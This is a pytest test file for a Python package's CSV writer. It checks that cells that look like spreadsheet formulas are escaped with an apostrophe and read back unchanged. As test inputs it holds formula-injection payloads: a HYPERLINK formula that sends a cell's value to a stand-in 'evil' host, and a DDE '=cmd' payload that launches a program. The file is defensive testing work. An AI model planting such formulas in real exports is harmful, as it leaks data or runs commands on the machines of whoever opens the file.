"""No cell of a table is a formula to a spreadsheet program, and every text comes back."""

from __future__ import annotations

import ast
import csv
import io
import json
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import uniot as package
from uniot.benchmark.results import Result, read_results, write_results
from uniot.datasets import make_toy_domains
from uniot.io.csv_tables import CsvReader, dict_reader, escape_formulas, table_text, unescape_formulas, write_table
from uniot.io.embedding_files import read_embeddings, write_embeddings
from uniot.io.files import replacing
from uniot.labelling import read_names, write_names
from uniot.runs import Run
from uniot.training.history import History

FORMULAS = (
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    " =1",
    "＝1+1",
    "-",
    "--1",
    "+49 170 1",
    "-1.5.2020",
    "- 1",
)
# What a spreadsheet that splits at semicolons, tabs or line ends would find at the begin of a cell.
INSIDE = ("a;=1", "a\t@x", "a\n+x", "a;'=1", ";;-x", "a; =1")
HARMLESS = ("", "cup", "a=b", "a-b", "x@y", "'", "'a", "it's", "a; b", "−1", "größe→狗")
NUMBERS = ("-1", "+1", "-1.5", "-.5", "+2.", "-1e-05", "-1E+3", "-inf", "-nan", " -1", "-1 ", "1;-2")


def cells(text: str) -> list[list[str]]:
    """The cells as any other program reads them."""
    return list(csv.reader(io.StringIO(text, newline="")))


def is_formula(cell: str) -> bool:
    """Return whether a spreadsheet program may compute a part of a cell, or the whole."""
    number = re.compile(r"[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?|[+-](inf|nan)")
    parts = [part.strip() for part in re.split(r"[;\t\r\n]", cell)]
    return cell[:1] in ("\0", "\t", "\r", "\n") or any(
        part[:1] in tuple("=+-@＝＋－＠") and not number.fullmatch(part) for part in parts
    )


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_gets_an_apostrophe_before_it(text):
    assert is_formula(text)
    assert escape_formulas(text).startswith("'")
    assert not is_formula(escape_formulas(text))
    assert unescape_formulas(escape_formulas(text)) == text


@pytest.mark.parametrize("text", INSIDE)
def test_formula_after_a_semicolon_tab_or_line_end_gets_one_too(text):
    assert not is_formula(escape_formulas(text))
    assert unescape_formulas(escape_formulas(text)) == text


@pytest.mark.parametrize("text", [*HARMLESS, *NUMBERS])
def test_numbers_and_texts_that_are_no_formulas_stay_as_they_are(text):
    assert escape_formulas(text) == unescape_formulas(text) == text


TEXT = st.text(st.one_of(st.sampled_from("'=+-@;\t\r\n 1.e＝\0ab,\""), st.characters()), max_size=12)


@given(TEXT)
@example("'=x")
@example("''=x")
@example("'\t'=")
@example("'-1")
@example("';'=")
@example("\x1f=")
@example("\u2028@")
def test_any_text_comes_back_and_none_is_a_formula(text):
    escaped = escape_formulas(text)
    assert unescape_formulas(escaped) == text
    assert not is_formula(escaped)


@given(st.lists(st.lists(TEXT.filter(lambda text: "\0" not in text), min_size=2, max_size=2), max_size=5))
def test_any_table_comes_back(rows):
    text = table_text(["=a", "b"], rows)
    assert list(CsvReader(io.StringIO(text, newline=""))) == [["=a", "b"], *rows]
    assert [list(row.values()) for row in dict_reader(io.StringIO(text, newline=""))] == rows
    assert not any(is_formula(cell) for row in cells(text) for cell in row)


def test_cells_that_are_numbers_are_not_texts(tmp_path):
    write_table(tmp_path / "a.csv", ("x", "y", "z"), [(-1, -0.5, None), (np.int64(-2), float("-inf"), True)])
    assert (tmp_path / "a.csv").read_text(encoding="utf-8") == "x,y,z\n-1,-0.5,\n-2,-inf,True\n"


def test_table_by_another_program_is_read_as_it_is():
    rows = list(CsvReader(["path,label\n", "=a.jpg,-x\n", "it's,'quoted'\n"]))
    assert rows == [["path", "label"], ["=a.jpg", "-x"], ["it's", "'quoted'"]]


def test_other_programs_see_the_apostrophe(tmp_path):
    write_table(tmp_path / "a.csv", ("path", "label"), [("@a.jpg", "=x"), ("b.jpg", "'-x"), ("c.jpg", "it's")])
    table = pd.read_csv(tmp_path / "a.csv")
    assert table["path"].tolist() == ["'@a.jpg", "b.jpg", "c.jpg"]
    assert table["label"].tolist() == ["'=x", "''-x", "it's"]


# --- every table that is written ------------------------------------------------------------------------------

NAMES = (*FORMULAS[:8], *FORMULAS[9:], *INSIDE, "'=x", "-1", "'-1")  # no NUL, which no file name has


def name(row: int) -> str:
    return f"{NAMES[row % len(NAMES)]} {row}"


@pytest.fixture(scope="module")
def run(tmp_path_factory, uniot) -> Path:
    """A run whose classes, samples and groups are named like formulas, with copies and a wrong label in its data."""
    top = tmp_path_factory.mktemp("formulas")
    toy = make_toy_domains(seed=1)
    labels = {label: NAMES[number] for number, label in enumerate(np.unique(toy.y_source))}
    y = [labels[label] for label in toy.y_source]
    y[0] = y[-1]
    x_target = np.concatenate([toy.x_target, toy.x_source[:2]])
    np.savez(top / "source.npz", x=toy.x_source, y=y, ids=[f"={row}" for row in range(len(y))])
    np.savez(top / "target.npz", x=x_target, ids=[name(row) for row in range(len(x_target))])
    assert uniot("adapt", top / "source.npz", top / "target.npz", "--out", top / "run").code == 0
    groups = Run.open(top / "run").predictions.groups
    unknown = np.flatnonzero(groups >= 0)[:3]
    lines = [{"path": name(row), "label": f"=cmd|{row}"} for row in unknown.tolist()]
    (top / "names.jsonl").write_text("\n".join(map(json.dumps, lines)), encoding="utf-8")
    assert uniot("label", top / "run", "--import", top / "names.jsonl").code == 0
    return top / "run"


@pytest.mark.medium
def test_no_table_of_a_run_has_a_formula(run, uniot):
    assert uniot("label", run, "--out", run / "exported.csv").code == 0
    assert uniot("predict", run, run.parent / "target.npz", "--out", run / "new.csv").code == 0
    tables = {path.name: path.read_text(encoding="utf-8") for path in run.rglob("*.csv")}
    assert {"predictions.csv", "labels.csv", "exported.csv", "new.csv"} < set(tables)
    assert {"suspect_labels.csv", "near_duplicates.csv"} & set(tables)
    tables["printed"] = uniot("predict", run, run.parent / "target.npz").stdout
    found = {name: [cell for row in cells(text) for cell in row if is_formula(cell)] for name, text in tables.items()}
    assert found == {name: [] for name in tables}
    assert all("'=" in text for text in tables.values())


def test_names_of_a_run_are_read_back(run, uniot):
    opened = Run.open(run)
    names = [name(row) for row in range(len(opened.predictions))]
    assert opened.predictions.names == names
    assert set(opened.predictions.nearest_classes) <= set(np.load(run.parent / "source.npz")["y"].tolist())
    labelled = read_names(run / "labels.csv")
    assert set(labelled.names) <= set(names)
    given = labelled.labels[labelled.decisions != "unknown"].tolist()
    assert given
    assert all(label.startswith("=cmd|") for label in given)
    again = run.parent / "again"
    assert uniot("label", run, "--out", run.parent / "labels.csv").code == 0
    both = (run.parent / "source.npz", run.parent / "target.npz")
    assert uniot("adapt", *both, "--names", run.parent / "labels.csv", "--out", again).code == 0
    assert set(given) <= set(Run.open(again).model.classes.tolist())
    scored = uniot("evaluate", run, "--labels", run / "predictions.csv")
    assert scored.code == 0, scored.stderr


def test_labels_survive_a_file(tmp_path):
    lines = [(name(row), f"=x{row}", "named", None) for row in range(len(NAMES))]
    write_names(tmp_path / "labels.csv", lines)
    read = read_names(tmp_path / "labels.csv")
    assert (read.names, read.labels.tolist()) == ([line[0] for line in lines], [line[1] for line in lines])


def test_names_and_labels_beside_embeddings_survive_a_file(tmp_path):
    names, labels = [name(row) for row in range(4)], np.array(["=a", "'=a", "-1", "+x"])
    write_embeddings(tmp_path / "x.npy", np.zeros((4, 2)), labels, names, replacing=replacing)
    read = read_embeddings(tmp_path / "x.npy")
    assert (read.ids, read.y.tolist()) == (names, labels.tolist())
    assert not any(is_formula(cell) for row in cells((tmp_path / "x.csv").read_text(encoding="utf-8")) for cell in row)


def test_results_of_a_benchmark_survive_a_file(tmp_path):
    values = {"seed": 0, "setting": "=open", "backbone": "@net", "steps": 1, "seconds": 0.5, "dataset": "+set"}
    results = [
        Result(method="-method", task="=A2W", h=0.5, **values),
        Result(method="'=m", task="x", failure="=cmd|x", **values),
    ]
    write_results(tmp_path / "results.csv", results)
    assert read_results(tmp_path / "results.csv") == results
    text = (tmp_path / "results.csv").read_text(encoding="utf-8")
    assert not any(is_formula(cell) for row in cells(text) for cell in row)


def test_history_keeps_its_numbers():
    history = History(["step", "=loss"], [[1, -0.5], [2, float("nan")]], [])
    assert history.to_csv() == "step,'=loss\n1,-0.5\n2,\n"


# --- the only place that writes CSV -----------------------------------------------------------------------------

SOURCE, ROOT = Path(package.__file__).parent, Path(__file__).parents[2]


def test_no_other_module_reads_or_writes_csv():
    """Scripts may read with the standard module, but not write."""
    found = []
    scripts = [*(ROOT / "benchmarks").glob("*.py"), *(ROOT / "examples").rglob("*.py"), *(ROOT / "docs").rglob("*.py")]
    for file in [*SOURCE.rglob("*.py"), *scripts]:
        tree = ast.walk(ast.parse(file.read_text(encoding="utf-8")))
        for node in tree:
            imported = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
            if isinstance(node, ast.ImportFrom):
                imported = [node.module]
            if "csv" in imported and SOURCE in file.parents:
                found.append(f"{file.name} imports csv")
            if isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                if re.search(r"\bcsv\.(writer|DictWriter)$|\.write_csv$|\bsavetxt$", called):
                    found.append(f"{file.name} calls {called}")
    assert found == ["csv_tables.py imports csv", "csv_tables.py calls csv.writer"]
